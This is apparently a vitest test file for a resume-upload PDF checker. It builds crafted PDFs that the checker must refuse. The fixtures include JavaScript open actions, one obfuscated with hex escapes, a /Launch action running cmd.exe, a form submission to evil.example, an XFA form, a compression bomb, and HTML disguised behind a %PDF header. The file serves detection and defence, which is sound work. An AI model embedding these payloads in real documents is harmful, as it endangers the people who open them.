import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { MINIMAL_PDF } from '#server/test/fixtures.js';
import { pdfVerdict, syntaxOnly } from './pdf-content.js';

// Security findings: resume PDFs with JavaScript or launch actions were stored and mailed unchanged;
// a file that is HTML after a %PDF header must not pass as a resume.

/** A PDF of `objects` (each `<<…>>` or with a stream), numbered from 1, the first being the catalog. */
function pdf(objects: (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xE2\xE3\xCF\xD3\n', 'latin1')];
  objects.forEach((object, i) => {
    parts.push(Buffer.from(`${i + 1} 0 obj\n`), Buffer.isBuffer(object) ? object : Buffer.from(object));
    parts.push(Buffer.from('\nendobj\n'));
  });
  parts.push(Buffer.from(`trailer\n<< /Root 1 0 R /Size ${objects.length + 1} >>\n%%EOF\n`));
  return Buffer.concat(parts);
}
/** An object with a Flate-compressed stream holding `content`. */
const flate = (content: string | Buffer, dictionary = '') => {
  const data = deflateSync(content);
  return Buffer.concat([
    Buffer.from(`<< /Filter /FlateDecode /Length ${data.length} ${dictionary}>>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ]);
};
const catalog = (extra = '') => `<< /Type /Catalog /Pages 2 0 R ${extra}>>`;
const pages = '<< /Type /Pages /Kids [] /Count 0 >>';

describe('what a resume PDF may hold', () => {
  it('takes plain PDFs: the minimal one, one that opens at its first page, and a real one printed by Chromium', () => {
    expect(pdfVerdict(MINIMAL_PDF)).toBe('plain');
    expect(pdfVerdict(pdf([catalog('/OpenAction [3 0 R /Fit]'), pages, '<< /Type /Page /Parent 2 0 R >>']))).toBe(
      'plain',
    );
    expect(pdfVerdict(readFileSync(new URL('../../test/fixtures/chromium-resume.pdf', import.meta.url)))).toBe('plain');
  });

  it('takes a resume whose text says HTML/JS, CSS/XFA or /Launch, in a plain or a compressed page', () => {
    const text = 'BT /F1 12 Tf 72 700 Td (Skills: HTML/JS, CSS/XFA \\(and /Launch\\)) Tj ET';
    expect(pdfVerdict(pdf([catalog(), pages, `<< /Length ${text.length} >>\nstream\n${text}\nendstream`]))).toBe(
      'plain',
    );
    expect(pdfVerdict(pdf([catalog(), pages, flate(text)]))).toBe('plain');
    expect(syntaxOnly('a (b (nested) c) d <414243> e << /K 1 >> % note\nf')).toBe('a   d   e << /K 1 >> \nf');
  });

  it('refuses scripts and actions: in the catalog, escaped, in a page, inside a compressed object stream', () => {
    const refused = [
      pdf([catalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), pages]),
      pdf([catalog('/OpenAction 3 0 R'), pages, '<< /S /J#61vaScript /J#53 (app.alert(1)) >>']),
      pdf([catalog(), pages, '<< /Type /Page /AA << /O << /S /Launch /F (cmd.exe) >> >> >>']),
      pdf([catalog('/AcroForm << /XFA 3 0 R >>'), pages, '<< >>']),
      pdf([
        catalog(),
        pages,
        flate('4 0 << /S /SubmitForm /F (https://evil.example) >>', '/Type /ObjStm /N 1 /First 4'),
      ]),
      pdf([catalog('/Names << /JavaScript 3 0 R >>'), pages, '<< /Names [(a) 4 0 R] >>']),
    ];
    for (const file of refused) expect(pdfVerdict(file)).toBe('active');
  });

  it('refuses a stream that unpacks to more than a resume ever needs (a compression bomb)', () => {
    expect(pdfVerdict(pdf([catalog(), pages, flate(Buffer.alloc(80 * 1024 * 1024))]))).toBe('active');
  });

  it('refuses a web page, or anything else, after a %PDF header', () => {
    expect(pdfVerdict(Buffer.from('%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF'))).toBe(
      'not-pdf',
    );
    expect(
      pdfVerdict(pdf([catalog(), pages, '<< /Length 30 >>\nstream\n<!DOCTYPE html><script>x</script>\nendstream'])),
    ).toBe('not-pdf');
    expect(pdfVerdict(Buffer.from('%PDF-1.4\njust some text\n%%EOF'))).toBe('not-pdf');
  });
});
